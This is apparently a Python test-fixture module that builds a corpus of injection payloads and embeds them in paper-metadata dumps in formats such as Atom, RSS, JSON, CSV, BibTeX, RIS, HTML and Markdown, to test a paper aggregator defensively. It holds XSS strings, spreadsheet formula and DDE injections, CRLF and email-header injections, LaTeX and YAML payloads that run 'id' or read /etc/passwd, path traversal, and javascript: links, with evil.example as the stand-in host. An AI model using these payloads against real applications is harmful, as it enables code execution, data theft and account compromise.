"""A corpus of attacks, as texts of strangers hold them, and dumps in many formats that carry them.

Every script calls ``canary()``, every foreign address is at ``evil.example``: a test that sees the
one run, or the other asked for, has found a hole.
"""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass
from html import escape
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

SCRIPTS = (
    "<script>canary(1)</script>",
    "</script><script>canary(2)</script>",
    "<img src=x onerror=canary(3)>",
    '"><svg/onload=canary(4)>',
    "' autofocus onfocus='canary(5)",
    "</title></textarea></style><script>canary(6)</script>",
    "]]><script>canary(7)</script><![CDATA[",
    "--><script>canary(8)</script><!--",
    "<iframe srcdoc='<script>parent.canary(9)</script>'>",
    "<math><mtext><style><a title='</style><img src=x onerror=canary(10)>'>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "&lt;script&gt;canary(11)&lt;/script&gt;",
    "{{ 7 * 7 }}{% include 'x' %}${7*7}<%= 7 %>",
    r"$\href{javascript:canary(12)}{x}$ \href{javascript:canary(13)}{y}",
    "[x](javascript:canary(14)) ![y](//evil.example/p.png) <javascript:canary(15)>",
    "\u2028</script\u2028><script>canary(16)</script>",
    "\x00<scr\x00ipt>canary(17)</script>",
)
"""Scripts for text, attributes, styles, data blocks, XML, MathML, templates and Markdown."""

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3+cmd",
    "@SUM(1+1)*cmd",
    '=HYPERLINK("https://evil.example/";"x")',
    "\uff1d1+1",
)
"""What a spreadsheet would run."""

FIELDS = (
    "Honest\r\nBcc: victim@evil.example\r\n\r\n<script>canary(20)</script>",
    "} }, url = {https://evil.example/}}\n@article{evil, title = {Evil",
    "Honest\r\nER  - \r\n\r\nTY  - JOUR\r\nTI  - Evil",
    r"\input{/etc/passwd} \write18{id} \catcode`\@=11 \def\x{\x\x}\x",
    "x%0d%0aBcc: y@evil.example %00 ../../../../etc/passwd ..\\..\\x",
    "title: evil\ncurated:\n  title: !!python/object/apply:os.system [id]",
)
"""What would end a header, an entry, a record or a field and begin another one."""

DISGUISES = (
    "invoice\u202egnp.exe\u202c",
    "\u2067reversed\u2069 \u200bzero\u2060 width\ufeff \U000e0041tag",
    "Z\u0335\u0301\u0302\u0303" * 40,
    "\x1b[31mred\x1b[0m\x07\x08",
    "__proto__",
    "constructor",
    "hasOwnProperty toString valueOf",
    "con aux nul.html index search",
)
"""What reads as something else, or has a name that programs use themselves."""

TITLES = (*SCRIPTS, *FORMULAS, *FIELDS, *DISGUISES)

LINKS = (
    "javascript:canary(30)",
    "JaVaScRiPt:canary(31)",
    "java\tscript:canary(32)",
    "\x01javascript:canary(33)",
    "javascript&colon;canary(34)",
    "data:text/html,<script>canary(35)</script>",
    "vbscript:canary(36)",
    "//evil.example/x",
    'https://evil.example/"><script>canary(37)</script>',
    "https://evil.example/' onclick='canary(38)",
    "https://user:pass@evil.example:99999/",
    "file:///etc/passwd",
)
"""Addresses."""

QUERIES = (
    *SCRIPTS[:6],
    'tag:"><img src=x onerror=canary(40)>',
    'author:__proto__ name:constructor -tag:toString "',
    "tag:" * 3000,
    "(((((" * 2000 + "a" * 20000,
    '"' * 9999 + "a" * 9999,
    "-" * 20000 + "x*~^:+",
    "date:..9999 date:2024..x year:%00 has:\u202e",
)
"""What a link to the search page may ask."""

_FILLER = (
    "We study how bees keep a honeybee colony warm through the winter and report what was measured"
    " in forty hives, number {number} of format {form}, over three years of patient observation."
)


@dataclass(frozen=True)
class Paper:
    """A paper of strangers."""

    number: int
    title: str
    abstract: str
    author: str
    venue: str
    link: str


def papers(form: str, start: int = 0) -> list[Paper]:
    """Give papers for one format: each third attack as a title, and others in other fields."""
    chosen = list(enumerate(TITLES))[start % 3 :: 3]
    return [
        Paper(
            number,
            title=title if title[0] in "=+-@" else f"{form.title()} {number} {title}",
            abstract=f"{_FILLER.format(number=number, form=form)} {_turned(number, 1)}",
            author=_turned(number, 2),
            venue=_turned(number, 3),
            link=LINKS[number % len(LINKS)],
        )
        for number, title in chosen
    ]


def _turned(number: int, by: int) -> str:
    return TITLES[(number + by) % len(TITLES)]


def _daily(papers: list[Paper]) -> str:
    blocks = [f"{one.title}\n\n{one.abstract}\n\n  • 4 authors\n·\nMar 20 3" for one in papers]
    return "Daily Papers\n\nbyAK and the research community\n\nApr 2\n\n" + "\n\n".join(blocks)


def _atom(papers: list[Paper]) -> str:
    entries = [
        f"<entry><id>http://arxiv.org/abs/2501.{one.number:05}v1</id>"
        f"<published>2025-01-02T00:00:00Z</published><title>{escape(one.title)}</title>"
        f"<summary>{escape(one.abstract)}</summary>"
        f"<author><name>{escape(one.author)}</name></author>"
        f'<arxiv:comment xmlns:arxiv="http://arxiv.org/schemas/atom">{escape(one.venue)}'
        f'</arxiv:comment><link href="{escape(one.link)}" rel="alternate"/></entry>'
        for one in papers
    ]
    return f'<feed xmlns="http://www.w3.org/2005/Atom">{"".join(entries)}</feed>'


def _rss(papers: list[Paper]) -> str:
    items = [
        f"<item><title>{escape(one.title)}</title><link>{escape(one.link)}</link>"
        f"<description>{escape(one.abstract)}</description>"
        f"<pubDate>Thu, 02 Jan 2025 00:00:00 GMT</pubDate></item>"
        for one in papers
    ]
    return f'<rss version="2.0"><channel><title>x</title>{"".join(items)}</channel></rss>'


def _json(papers: list[Paper]) -> str:
    return json.dumps(
        [
            {
                "title": one.title,
                "abstract": one.abstract,
                "authors": [one.author, "Ada Lovelace"],
                "journal": one.venue,
                "url": one.link,
                "year": 2024,
                "keywords": [one.venue],
            }
            for one in papers
        ]
    )


def _csv(papers: list[Paper]) -> str:
    table = io.StringIO()
    rows = csv.writer(table)
    rows.writerow(("title", "abstract", "authors", "journal", "url", "year"))
    rows.writerows(
        (one.title, one.abstract, one.author, one.venue, one.link, "2023") for one in papers
    )
    return table.getvalue()


def _bibtex(papers: list[Paper]) -> str:
    return "\n".join(
        f"@article{{key{one.number},\n  title = {{{one.title}}},\n  author = {{{one.author}}},\n"
        f"  journal = {{{one.venue}}},\n  year = 2022,\n  url = {{{one.link}}},\n"
        f"  abstract = {{{one.abstract}}}\n}}\n"
        for one in papers
    )


def _ris(papers: list[Paper]) -> str:
    return "".join(
        f"TY  - JOUR\nTI  - {one.title}\nAU  - {one.author}\nJO  - {one.venue}\nPY  - 2021\n"
        f"UR  - {one.link}\nAB  - {one.abstract}\nER  - \n\n"
        for one in papers
    )


def _html(papers: list[Paper]) -> str:
    cards = [
        f'<article><h3><a href="/papers/2502.{one.number:05}">{one.title}</a></h3>'
        f"<p>{one.abstract}</p></article>"
        for one in papers
    ]
    return f"<html><body><h1>Daily Papers</h1>{''.join(cards)}</body></html>"


def _labelled(papers: list[Paper]) -> str:
    return "".join(
        f"Title: {one.title}\nAuthors: {one.author}\nAbstract: {one.abstract}\n"
        f"URL: {one.link}\n---\n"
        for one in papers
    )


def _markdown(papers: list[Paper]) -> str:
    rows = [f"| {one.title} | {one.author} | {one.link} |\n" for one in papers]
    return "| Title | Authors | URL |\n|---|---|---|\n" + "".join(rows)


_WRITERS: dict[str, Callable[[list[Paper]], str]] = {
    "daily": _daily,
    "atom": _atom,
    "rss": _rss,
    "json": _json,
    "csv": _csv,
    "bibtex": _bibtex,
    "ris": _ris,
    "html": _html,
    "labelled": _labelled,
    "markdown": _markdown,
}


def dumps() -> dict[str, bytes]:
    """Give dumps with all attacks, by file name; NUL is in JSON only, as an escape."""
    written = {
        form: write(papers(form, start)).replace("\0", "")
        for start, (form, write) in enumerate(_WRITERS.items())
    }
    return {f"{form}.txt": text.encode("utf-8", "replace") for form, text in written.items()}


MARKDOWN = "\n\n".join(
    (*SCRIPTS, *(f"[link {n}](<{url}>) [ref {n}]: {url}" for n, url in enumerate(LINKS)))
)
"""What a curator may have pasted into a page or a note."""
